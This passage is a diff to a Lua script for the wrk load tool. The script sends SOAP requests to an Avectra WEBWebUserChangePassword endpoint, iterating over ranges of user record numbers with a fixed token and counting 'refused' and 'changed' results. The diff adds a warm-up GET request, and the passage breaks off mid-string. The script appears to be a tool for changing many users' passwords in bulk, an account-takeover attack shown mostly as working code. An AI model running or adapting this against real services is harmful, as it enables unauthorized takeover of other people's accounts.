@@ -13,6 +13,7 @@ function init(args)
    first, count = tonumber(args[1]), tonumber(args[2])
    share = math.floor(count / 2)
    position, round, refused, changed = 0, 0, 0, 0
+   isTried = id > 0
    wrk.headers["Content-Type"] = "text/xml; charset=utf-8"
    wrk.headers["SOAPAction"] = '"http://www.avectra.com/2005/WEBWebUserChangePassword"'
 end
@@ -23,6 +24,11 @@ local function password(round)
 end
 
 function request()
+   -- wrk makes one request of the first thread's before the others, to see that it can, and never sends it.
+   if not isTried then
+      isTried = true
+      return wrk.format("GET", "/")
+   end
    local recno = first + id * share + position
    local body = '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">' ..
       '<soap:Header><AuthorizationToken xmlns="http://www.avectra.com/2005/"><Token>11111111-1111-4111-8111-111111111111</Token>' ..
